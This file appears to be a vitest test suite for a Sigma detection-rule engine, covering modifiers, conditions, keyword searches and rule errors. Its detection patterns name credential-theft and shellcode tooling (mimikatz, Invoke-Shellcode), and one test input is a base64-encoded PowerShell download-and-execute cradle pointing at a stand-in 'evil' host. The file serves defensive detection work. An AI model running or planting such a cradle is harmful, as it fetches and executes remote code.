/**
 * Conformance of the Sigma detection engine: every modifier, condition form, keyword search,
 * null and empty values, escapes, logsource matching, and the errors bad rules get.
 */
import { describe, expect, it } from 'vitest';
import { base64Offsets } from './detection.js';
import { SigmaEvent } from './event.js';
import { loadRuleText } from './rule.js';
import { RuleSet } from './ruleset.js';

function compile(detection: string, extra = '', options = {}) {
  const text = `title: test rule\nlogsource:\n  product: windows\n${extra}detection:\n${detection.replace(/^/gm, '  ')}\n`;
  const loaded = loadRuleText(text, 'test.yml', options);
  if (loaded.refusals.length) throw new Error(loaded.refusals[0]!.reason);
  return loaded.rules[0]!;
}

function matcher(detection: string, options = {}) {
  const rule = compile(detection, '', options);
  return (doc: Record<string, unknown>) => rule.detection.matches(new SigmaEvent(doc, { product: 'windows' }, 0));
}

function refusal(detection: string, options = {}) {
  const text = `title: bad rule\nlogsource:\n  product: windows\ndetection:\n${detection.replace(/^/gm, '  ')}\n`;
  const loaded = loadRuleText(text, 'bad.yml', options);
  expect(loaded.rules).toHaveLength(0);
  return loaded.refusals[0]!;
}

describe('plain values', () => {
  it('matches a whole value, case-insensitively, numbers as text', () => {
    const m = matcher("sel:\n  Image: 'C:\\Windows\\System32\\cmd.exe'\n  EventID: 1\ncondition: sel");
    expect(m({ Image: 'c:\\windows\\system32\\CMD.EXE', EventID: 1 })).toBe(true);
    expect(m({ Image: 'C:\\Windows\\System32\\cmd.exe', EventID: '1' })).toBe(true);
    expect(m({ Image: 'C:\\Windows\\System32\\cmd.exe.bak', EventID: 1 })).toBe(false);
    expect(m({ Image: 'C:\\Windows\\System32\\cmd.exe' })).toBe(false);
  });
  it('a list of values is OR; a map is AND', () => {
    const m = matcher('sel:\n  EventID:\n    - 4624\n    - 4625\n  LogonType: 10\ncondition: sel');
    expect(m({ EventID: 4625, LogonType: 10 })).toBe(true);
    expect(m({ EventID: 4624, LogonType: '10' })).toBe(true);
    expect(m({ EventID: 4624, LogonType: 3 })).toBe(false);
    expect(m({ EventID: 4688, LogonType: 10 })).toBe(false);
  });
  it('wildcards * and ? and their escapes', () => {
    const m = matcher("sel:\n  CommandLine: 'net* user ?dmin'\ncondition: sel");
    expect(m({ CommandLine: 'net.exe user admin' })).toBe(true);
    expect(m({ CommandLine: 'net user Xdmin' })).toBe(true);
    expect(m({ CommandLine: 'net user dmin' })).toBe(false);
    const lit = matcher("sel:\n  Path: 'a\\*b\\?c'\ncondition: sel");
    expect(lit({ Path: 'a*b?c' })).toBe(true);
    expect(lit({ Path: 'axxbyc' })).toBe(false);
    // a backslash before anything but a wildcard or a backslash is itself; before * it escapes it
    const path = matcher("sel:\n  Image: 'C:\\Windows\\*'\ncondition: sel");
    expect(path({ Image: 'C:\\Windows\\notepad.exe' })).toBe(false);
    expect(path({ Image: 'C:\\Windows*' })).toBe(true);
    const twoSlashes = matcher("sel:\n  Image: 'a\\\\*'\ncondition: sel");
    expect(twoSlashes({ Image: 'a\\anything' })).toBe(true);
  });
  it('regex specials in a value are plain characters', () => {
    const m = matcher("sel:\n  Url: '/index.php?id=(1)*'\ncondition: sel");
    expect(m({ Url: '/index.php?id=(1) union select' })).toBe(true);
    expect(m({ Url: '/index.phpXid=(1)' })).toBe(true); // ? is a one-character wildcard
    expect(m({ Url: '/indexXphp?id=(1)' })).toBe(false); // . is a plain dot
    expect(m({ Url: '/index.phpid=(1)' })).toBe(false);
  });
  it('an array field matches when any element does', () => {
    const m = matcher("sel:\n  tags: 'evil'\ncondition: sel");
    expect(m({ tags: ['good', 'EVIL'] })).toBe(true);
    expect(m({ tags: ['good'] })).toBe(false);
  });
  it('finds nested and dotted ECS fields', () => {
    const m = matcher("sel:\n  source.ip: '10.164.1.8'\n  dns.question.name: 't.awcna.com'\ncondition: sel");
    expect(m({ source: { ip: '10.164.1.8' }, 'dns.question.name': 't.awcna.com' })).toBe(true);
    expect(m({ source: { ip: '10.164.1.9' }, dns: { question: { name: 't.awcna.com' } } })).toBe(false);
  });
  it('booleans compare as text', () => {
    const m = matcher('sel:\n  Enabled: true\ncondition: sel');
    expect(m({ Enabled: true })).toBe(true);
    expect(m({ Enabled: 'TRUE' })).toBe(true);
    expect(m({ Enabled: false })).toBe(false);
  });
});

describe('null, empty and exists', () => {
  it('null means the field is absent or null; empty means an empty string', () => {
    const m = matcher('sel:\n  EventID: 4738\nfilter:\n  PasswordLastSet: null\ncondition: sel and not filter');
    expect(m({ EventID: 4738, PasswordLastSet: '2026-01-01' })).toBe(true);
    expect(m({ EventID: 4738 })).toBe(false);
    expect(m({ EventID: 4738, PasswordLastSet: null })).toBe(false);
    const empty = matcher("sel:\n  User: ''\ncondition: sel");
    expect(empty({ User: '' })).toBe(true);
    expect(empty({ User: 'x' })).toBe(false);
    expect(empty({})).toBe(false);
  });
  it('exists: true / false', () => {
    const yes = matcher('sel:\n  Hashes|exists: true\ncondition: sel');
    const no = matcher('sel:\n  Hashes|exists: false\ncondition: sel');
    expect(yes({ Hashes: '' })).toBe(true);
    expect(yes({ Hashes: null })).toBe(true);
    expect(yes({})).toBe(false);
    expect(no({})).toBe(true);
    expect(no({ Hashes: 'x' })).toBe(false);
  });
  it('refuses null inside a list of values', () => {
    expect(refusal("sel:\n  FieldB:\n    - ''\n    - null\ncondition: sel").reason).toMatch(/null cannot be part of a list/);
  });
});

describe('string modifiers', () => {
  it('contains, startswith, endswith', () => {
    expect(matcher("sel:\n  CommandLine|contains: 'mimikatz'\ncondition: sel")({ CommandLine: 'run MimiKatz.exe now' })).toBe(true);
    expect(matcher("sel:\n  CommandLine|startswith: 'powershell'\ncondition: sel")({ CommandLine: 'PowerShell -enc' })).toBe(true);
    expect(matcher("sel:\n  CommandLine|startswith: 'powershell'\ncondition: sel")({ CommandLine: 'x powershell' })).toBe(false);
    expect(matcher("sel:\n  Image|endswith: '\\rundll32.exe'\ncondition: sel")({ Image: 'C:\\Windows\\System32\\RUNDLL32.EXE' })).toBe(true);
    expect(matcher("sel:\n  Image|endswith: '\\rundll32.exe'\ncondition: sel")({ Image: 'C:\\rundll32.exe.exe' })).toBe(false);
  });
  it('wildcards still work inside contains', () => {
    const m = matcher("sel:\n  CommandLine|contains: 'a*z'\ncondition: sel");
    expect(m({ CommandLine: 'xx a123z yy' })).toBe(true);
    expect(m({ CommandLine: 'xx z a' })).toBe(false);
  });
  it('all: every value must be there', () => {
    const m = matcher("sel:\n  CommandLine|contains|all:\n    - ' -nop '\n    - ' -w hidden '\ncondition: sel");
    expect(m({ CommandLine: 'powershell -nop -w hidden -c x' })).toBe(true);
    expect(m({ CommandLine: 'powershell -nop -c x' })).toBe(false);
  });
  it('cased: case-sensitive', () => {
    const m = matcher("sel:\n  CommandLine|cased|contains: 'Invoke-Mimikatz'\ncondition: sel");
    expect(m({ CommandLine: 'Invoke-Mimikatz -x' })).toBe(true);
    expect(m({ CommandLine: 'invoke-mimikatz -x' })).toBe(false);
    const exact = matcher("sel:\n  User|cased: 'Admin'\ncondition: sel");
    expect(exact({ User: 'admin' })).toBe(false);
    expect(exact({ User: 'Admin' })).toBe(true);
  });
  it('windash: a flag dash or slash may be any of - / – — ―', () => {
    const m = matcher("sel:\n  CommandLine|windash|contains: ' -exec bypass'\ncondition: sel");
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(m({ CommandLine: `powershell ${dash}exec bypass` })).toBe(true);
    expect(m({ CommandLine: 'powershell +exec bypass' })).toBe(false);
    // a dash inside a word is not a flag
    const inWord = matcher("sel:\n  CommandLine|windash|contains: 'non-interactive'\ncondition: sel");
    expect(inWord({ CommandLine: 'x non/interactive' })).toBe(false);
    expect(inWord({ CommandLine: 'x non-interactive' })).toBe(true);
  });
  it('neq: the field differs from every value', () => {
    const m = matcher("sel:\n  EventID: 4624\n  LogonType|neq:\n    - 3\n    - 5\ncondition: sel");
    expect(m({ EventID: 4624, LogonType: 10 })).toBe(true);
    expect(m({ EventID: 4624, LogonType: 3 })).toBe(false);
    expect(m({ EventID: 4624, LogonType: 5 })).toBe(false);
  });
});

describe('re', () => {
  it('is case-sensitive by default, with i, m and s flags', () => {
    expect(matcher("sel:\n  CommandLine|re: 'Invoke-[A-Z][a-z]+'\ncondition: sel")({ CommandLine: 'x Invoke-Mimikatz' })).toBe(true);
    expect(matcher("sel:\n  CommandLine|re: 'Invoke-[A-Z][a-z]+'\ncondition: sel")({ CommandLine: 'x invoke-mimikatz' })).toBe(false);
    expect(matcher("sel:\n  CommandLine|re|i: 'invoke-[a-z]+'\ncondition: sel")({ CommandLine: 'INVOKE-X' })).toBe(true);
    expect(matcher("sel:\n  Text|re|m: '^second$'\ncondition: sel")({ Text: 'first\nsecond\nthird' })).toBe(true);
    expect(matcher("sel:\n  Text|re: '^second$'\ncondition: sel")({ Text: 'first\nsecond\nthird' })).toBe(false);
    expect(matcher("sel:\n  Text|re|s: 'a.b'\ncondition: sel")({ Text: 'a\nb' })).toBe(true);
    expect(matcher("sel:\n  Text|re: 'a.b'\ncondition: sel")({ Text: 'a\nb' })).toBe(false);
  });
  it('accepts a leading PCRE (?i)', () => {
    expect(matcher("sel:\n  CommandLine|re: '(?i)invoke-x'\ncondition: sel")({ CommandLine: 'INVOKE-X' })).toBe(true);
  });
  it('refuses a broken expression with the reason, and a flag without re', () => {
    expect(refusal("sel:\n  CommandLine|re: 'a(b'\ncondition: sel").reason).toMatch(/invalid regular expression \/a\(b\//);
    expect(refusal("sel:\n  CommandLine|i: 'a'\ncondition: sel").reason).toMatch(/flag of the "re" modifier/);
  });
});

describe('encodings', () => {
  it('base64: the value as Base64', () => {
    const m = matcher("sel:\n  CommandLine|base64|contains: 'IEX'\ncondition: sel");
    expect(m({ CommandLine: `powershell -enc ${Buffer.from('IEX').toString('base64')}` })).toBe(true);
  });
  it('base64offset finds the value at any offset of a Base64 text', () => {
    const m = matcher("sel:\n  CommandLine|base64offset|contains: 'http://evil'\ncondition: sel");
    for (const prefix of ['', 'a', 'ab', 'abc', 'abcd']) {
      const encoded = Buffer.from(`${prefix}IEX (New-Object Net.WebClient).DownloadString('http://evil/x')`).toString('base64');
      expect(m({ CommandLine: `powershell -e ${encoded}` })).toBe(true);
    }
    expect(m({ CommandLine: `powershell -e ${Buffer.from('http://good/').toString('base64')}` })).toBe(false);
    // pySigma's three variants for "/bin/sh"
    expect(base64Offsets(Buffer.from('/bin/sh'))).toEqual(['L2Jpbi9za', '9iaW4vc2', 'vYmluL3No']);
  });
  it('wide / utf16le, utf16be and utf16 before base64', () => {
    const wide = matcher("sel:\n  CommandLine|wide|base64offset|contains: 'ping'\ncondition: sel");
    expect(wide({ CommandLine: `powershell -enc ${Buffer.from('cmd /c ping 1.2.3.4', 'utf16le').toString('base64')}` })).toBe(true);
    expect(wide({ CommandLine: `powershell -enc ${Buffer.from('cmd /c ping 1.2.3.4', 'utf8').toString('base64')}` })).toBe(false);
    const le = matcher("sel:\n  Data|utf16le|base64: 'cmd'\ncondition: sel");
    expect(le({ Data: Buffer.from('cmd', 'utf16le').toString('base64') })).toBe(true);
    const be = matcher("sel:\n  Data|utf16be|base64: 'cmd'\ncondition: sel");
    expect(be({ Data: Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString('base64') })).toBe(true);
    const bom = matcher("sel:\n  Data|utf16|base64: 'cmd'\ncondition: sel");
    expect(bom({ Data: Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString('base64') })).toBe(true);
  });
});

describe('numbers, times, addresses, field references, placeholders', () => {
  it('gt, gte, lt, lte', () => {
    const gt = matcher('sel:\n  Count|gt: 10\ncondition: sel');
    expect(gt({ Count: 11 })).toBe(true);
    expect(gt({ Count: '11' })).toBe(true);
    expect(gt({ Count: 10 })).toBe(false);
    expect(gt({ Count: 'many' })).toBe(false);
    expect(matcher('sel:\n  Count|gte: 10\ncondition: sel')({ Count: 10 })).toBe(true);
    expect(matcher('sel:\n  Count|lt: 10\ncondition: sel')({ Count: 9.5 })).toBe(true);
    expect(matcher('sel:\n  Count|lte: 10\ncondition: sel')({ Count: 11 })).toBe(false);
  });
  it('time parts of a date value', () => {
    const night = matcher("sel:\n  '@timestamp|hour|gte': 22\ncondition: sel");
    expect(night({ '@timestamp': '2019-12-01T23:10:00Z' })).toBe(true);
    expect(night({ '@timestamp': '2019-12-01T08:10:00Z' })).toBe(false);
    expect(matcher("sel:\n  '@timestamp|month': 12\ncondition: sel")({ '@timestamp': '2019-12-01T23:10:00Z' })).toBe(true);
    expect(matcher("sel:\n  '@timestamp|week': 48\ncondition: sel")({ '@timestamp': '2019-11-25T12:00:00Z' })).toBe(true);
  });
  it('cidr, IPv4 and IPv6', () => {
    const m = matcher("sel:\n  DestinationIp|cidr:\n    - '10.0.0.0/8'\n    - 'fc00::/7'\ncondition: sel");
    expect(m({ DestinationIp: '10.164.1.8' })).toBe(true);
    expect(m({ DestinationIp: 'fd12::1' })).toBe(true);
    expect(m({ DestinationIp: '::ffff:10.1.2.3' })).toBe(true);
    expect(m({ DestinationIp: '11.0.0.1' })).toBe(false);
    expect(m({ DestinationIp: 'not an ip' })).toBe(false);
    expect(refusal("sel:\n  DestinationIp|cidr: '10.0.0.0/33'\ncondition: sel").reason).toMatch(/not a CIDR network/);
  });
  it('fieldref compares two fields of the same event', () => {
    const same = matcher('sel:\n  TargetUserName|fieldref: SubjectUserName\ncondition: sel');
    expect(same({ TargetUserName: 'Bob', SubjectUserName: 'bob' })).toBe(true);
    expect(same({ TargetUserName: 'Bob', SubjectUserName: 'alice' })).toBe(false);
    expect(same({ TargetUserName: 'Bob' })).toBe(false);
    const differ = matcher('sel:\n  TargetUserName|fieldref|neq: SubjectUserName\ncondition: sel');
    expect(differ({ TargetUserName: 'Bob', SubjectUserName: 'alice' })).toBe(true);
    const starts = matcher('sel:\n  CommandLine|fieldref|startswith: Image\ncondition: sel');
    expect(starts({ CommandLine: 'c:\\x.exe -a', Image: 'C:\\X.EXE' })).toBe(true);
  });
  it('expand: placeholders from configuration, refused when unset', () => {
    const m = matcher("sel:\n  User|expand: '%Administrators%'\ncondition: sel", { placeholders: { Administrators: ['admin*', 'root'] } });
    expect(m({ User: 'administrator' })).toBe(true);
    expect(m({ User: 'root' })).toBe(true);
    expect(m({ User: 'bob' })).toBe(false);
    const refused = refusal("sel:\n  User|expand: '%Administrators%'\ncondition: sel");
    expect(refused.reason).toMatch(/placeholder %Administrators% has no values/);
    expect(refused.category).toBe('placeholder without values');
  });
});

describe('keywords', () => {
  it('a list of keywords is OR over the whole event text', () => {
    const m = matcher("keywords:\n  - 'event::clear'\n  - 'event::drop'\ncondition: keywords");
    expect(m({ CommandLine: 'mimikatz # EVENT::Clear', User: 'x' })).toBe(true);
    expect(m({ nested: { deep: ['x', 'sekurlsa event::drop'] } })).toBe(true);
    expect(m({ CommandLine: 'whoami' })).toBe(false);
  });
  it("'|all' keywords must all be present", () => {
    const m = matcher("keywords_cmdlet:\n  '|all':\n    - 'OabVirtualDirectory'\n    - ' -ExternalUrl '\ncondition: keywords_cmdlet");
    expect(m({ Payload: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toBe(true);
    expect(m({ Payload: 'Set-OabVirtualDirectory' })).toBe(false);
  });
  it('keywords combine with field selections', () => {
    const m = matcher("sel:\n  EventID: 4104\nkw:\n  - 'Invoke-Shellcode'\ncondition: sel and kw");
    expect(m({ EventID: 4104, ScriptBlockText: 'Invoke-Shellcode -x' })).toBe(true);
    expect(m({ EventID: 4103, ScriptBlockText: 'Invoke-Shellcode -x' })).toBe(false);
  });
});

describe('conditions', () => {
  const det = (condition: string) =>
    matcher(`selection_a:\n  A: 1\nselection_b:\n  B: 1\nfilter_c:\n  C: 1\n_hidden:\n  D: 1\ncondition: ${condition}`);
  const ev = (a: number, b: number, c: number, d = 0) => ({ A: a, B: b, C: c, D: d });
  it('and, or, not with the precedence or < and < not', () => {
    const m = det('selection_a or selection_b and not filter_c');
    expect(m(ev(1, 0, 1))).toBe(true);
    expect(m(ev(0, 1, 0))).toBe(true);
    expect(m(ev(0, 1, 1))).toBe(false);
  });
  it('parentheses', () => {
    const m = det('(selection_a or selection_b) and not filter_c');
    expect(m(ev(1, 0, 1))).toBe(false);
    expect(m(ev(1, 0, 0))).toBe(true);
  });
  it('not not, and keyword case', () => {
    expect(det('NOT NOT selection_a')(ev(1, 0, 0))).toBe(true);
  });
  it('1 of / all of a pattern', () => {
    expect(det('1 of selection_*')(ev(0, 1, 0))).toBe(true);
    expect(det('all of selection_*')(ev(0, 1, 0))).toBe(false);
    expect(det('all of selection_*')(ev(1, 1, 0))).toBe(true);
    expect(det('all of selection_* and not 1 of filter*')(ev(1, 1, 1))).toBe(false);
    expect(det('1 of *_b')(ev(0, 1, 0))).toBe(true);
  });
  it('1 of them / all of them leave out identifiers starting with _', () => {
    expect(det('1 of them')(ev(0, 0, 0, 1))).toBe(false);
    expect(det('1 of them')(ev(0, 0, 1, 0))).toBe(true);
    expect(det('all of them')(ev(1, 1, 1, 0))).toBe(true);
    expect(det('all of them')(ev(1, 1, 0, 1))).toBe(false);
  });
  it('a list of conditions is OR', () => {
    const rule = compile('a:\n  A: 1\nb:\n  B: 1\ncondition:\n  - a\n  - b');
    expect(rule.detection.matches(new SigmaEvent({ B: 1 }, { product: 'windows' }, 0))).toBe(true);
  });
  it('a list of maps is OR', () => {
    const m = matcher("sel:\n  - Image|endswith: '\\example.exe'\n  - Description|contains: 'Test executable'\ncondition: sel");
    expect(m({ Image: 'c:\\example.exe' })).toBe(true);
    expect(m({ Description: 'a Test executable' })).toBe(true);
    expect(m({ Image: 'c:\\other.exe' })).toBe(false);
  });
  it('explains which search identifiers matched', () => {
    const rule = compile("sel:\n  A: 1\nother:\n  B: 1\ncondition: sel or other");
    expect(rule.detection.explain(new SigmaEvent({ A: 1 }, {}, 0))).toEqual(['sel']);
  });
  it('refuses bad conditions precisely', () => {
    expect(refusal('sel:\n  A: 1\ncondition: sel and missing').reason).toMatch(/unknown search identifier "missing"/);
    expect(refusal('sel:\n  A: 1\ncondition: (sel').reason).toMatch(/expected "\)"/);
    expect(refusal('sel:\n  A: 1\ncondition: sel and').reason).toMatch(/unexpected end/);
    expect(refusal('sel:\n  A: 1\ncondition: 1 of nothing*').reason).toMatch(/matches no search identifier/);
    expect(refusal('sel:\n  A: 1\ncondition: 2 of sel*').reason).toMatch(/only "1 of" and "all of"/);
    const agg = refusal('sel:\n  A: 1\ncondition: sel | count(User) by Host > 10');
    expect(agg.category).toBe('deprecated aggregation');
    expect(agg.reason).toMatch(/correlation rule/);
    expect(refusal('sel:\n  A: 1\ntimeframe: 5m\ncondition: sel').category).toBe('deprecated aggregation');
  });
});

describe('bad rules', () => {
  it('names file, line and problem; the other documents of the file still load', () => {
    const text = [
      'title: good one',
      'logsource: {product: windows}',
      'detection: {sel: {A: 1}, condition: sel}',
      '---',
      'title: broken one',
      'logsource: {product: windows}',
      'detection:',
      '  sel:',
      "    A|nosuchmodifier: 1",
      '  condition: sel',
      '---',
      'title: also good',
      'logsource: {product: windows}',
      'detection: {sel: {B: 1}, condition: sel}',
    ].join('\n');
    const loaded = loadRuleText(text, 'rules/mixed.yml');
    expect(loaded.rules.map((r) => r.title)).toEqual(['good one', 'also good']);
    expect(loaded.refusals).toEqual([
      expect.objectContaining({ file: 'rules/mixed.yml', line: 9, title: 'broken one', category: 'unknown modifier', reason: expect.stringMatching(/unknown modifier "nosuchmodifier" on field "A"/) }),
    ]);
  });
  it('YAML syntax errors carry their line', () => {
    const loaded = loadRuleText('title: x\nlogsource: {product: windows\ndetection: {}\n', 'y.yml');
    expect(loaded.refusals[0]).toMatchObject({ file: 'y.yml', category: 'YAML syntax' });
    expect(loaded.refusals[0]!.line).toBeGreaterThan(1);
  });
  it('missing attributes, bad levels, contradicting modifiers, rule collections', () => {
    expect(loadRuleText('logsource: {product: x}\ndetection: {s: {A: 1}, condition: s}', 'f.yml').refusals[0]!.reason).toMatch(/"title" is required/);
    expect(loadRuleText('title: t\ndetection: {s: {A: 1}, condition: s}', 'f.yml').refusals[0]!.reason).toMatch(/"logsource" is required/);
    expect(loadRuleText('title: t\nlevel: severe\nlogsource: {product: x}\ndetection: {s: {A: 1}, condition: s}', 'f.yml').refusals[0]!.reason).toMatch(/level "severe"/);
    expect(refusal("s:\n  A|contains|endswith: x\ncondition: s").reason).toMatch(/contradict/);
    expect(loadRuleText('action: global\ntitle: t\n', 'f.yml').refusals[0]!.category).toBe('rule collection');
  });
});

describe('logsource and the rule index', () => {
  const file = [
    'title: sysmon process creation',
    'logsource: {product: windows, category: process_creation}',
    "detection: {sel: {Image|endswith: '\\whoami.exe'}, condition: sel}",
    '---',
    'title: security failed logon',
    'logsource: {product: windows, service: security}',
    'detection: {sel: {EventID: 4625}, condition: sel}',
    '---',
    'title: any windows keyword',
    'logsource: {product: windows}',
    "detection: {kw: ['mimikatz'], condition: kw}",
    '---',
    'title: linux',
    'logsource: {product: linux, service: sshd}',
    "detection: {kw: ['Failed password'], condition: kw}",
  ].join('\n');
  const set = new RuleSet(loadRuleText(file, 'r.yml').rules);
  const titles = (doc: Record<string, unknown>, source: ConstructorParameters<typeof SigmaEvent>[1]) => set.match(new SigmaEvent(doc, source, 0)).map((r) => r.title);
  it('a rule meets only events of its logsource', () => {
    expect(titles({ Image: 'C:\\Windows\\System32\\whoami.exe' }, { product: 'windows', service: 'sysmon', categories: ['process_creation'] })).toEqual(['sysmon process creation']);
    expect(titles({ Image: 'C:\\Windows\\System32\\whoami.exe' }, { product: 'windows', service: 'sysmon', categories: ['image_load'] })).toEqual([]);
    expect(titles({ EventID: 4625, x: 'mimikatz' }, { product: 'windows', service: 'security' })).toEqual(['security failed logon', 'any windows keyword']);
    expect(titles({ msg: 'Failed password for root' }, { product: 'linux', service: 'sshd' })).toEqual(['linux']);
    expect(titles({ msg: 'Failed password for root' }, { product: 'windows', service: 'sshd' })).toEqual([]);
  });
  it('the index spares rules that cannot match', () => {
    const before = set.stats.evaluated;
    set.match(new SigmaEvent({ EventID: 4624 }, { product: 'windows', service: 'security' }, 0));
    // neither the EventID 4625 rule nor the keyword rule (no "mimikatz" anywhere) was tried
    expect(set.stats.evaluated - before).toBe(0);
    set.match(new SigmaEvent({ EventID: 4624, Note: 'Invoke-Mimikatz' }, { product: 'windows', service: 'security' }, 0));
    expect(set.stats.evaluated - before).toBe(1);
  });
});
